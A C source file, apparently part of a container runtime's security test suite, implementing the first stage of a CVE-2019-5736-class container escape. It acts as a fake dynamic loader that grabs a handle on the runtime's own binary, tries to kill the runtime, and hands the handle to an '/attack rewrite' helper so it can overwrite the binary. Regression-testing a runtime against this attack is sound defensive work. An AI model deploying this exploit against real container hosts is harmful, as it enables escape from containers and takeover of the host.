/*
 * tests/attack/fake_ld.c — the first half of the runtime-overwrite attack
 * (the CVE-2019-5736 class), for x86_64.  Put in a rootfs as the dynamic
 * loader that the runtime's binary names, it runs when a container's command
 * is /proc/self/exe: the kernel then executes the runtime's own binary with
 * the container's loader.  It keeps a handle on /proc/self/exe, drops its
 * parent-death signal, tries to kill the runtime through its process group
 * (SIGALRM, which the runtime does not forward), and hands the handle to
 * `/attack rewrite 3`, which no longer executes the runtime and so may try
 * to write to it.  Built with -nostdlib -static: only system calls.
 */
#include <asm/unistd.h>
#include <linux/fcntl.h>
#include <linux/prctl.h>
#include <linux/signal.h>

static long
sys(long n, long a, long b, long c, long d)
{
	long r;
	register long r10 __asm__("r10") = d;

	__asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
	return r;
}

void
_start(void)
{
	struct { void *handler; unsigned long flags; void *restorer; unsigned long mask; } ign = { (void *)1, 0, 0, 0 };
	static char *const argv[] = { "attack", "rewrite", "3", 0 };
	long fd;

	fd = sys(__NR_open, (long)"/proc/self/exe", O_PATH, 0, 0);
	if (fd != 3)
		sys(__NR_dup2, fd, 3, 0, 0);
	sys(__NR_prctl, PR_SET_PDEATHSIG, 0, 0, 0);
	sys(__NR_rt_sigaction, SIGALRM, (long)&ign, 0, 8);
	sys(__NR_kill, 0, SIGALRM, 0, 0);
	sys(__NR_execve, (long)"/attack", (long)argv, 0, 0);
	sys(__NR_exit_group, 3, 0, 0, 0);
}
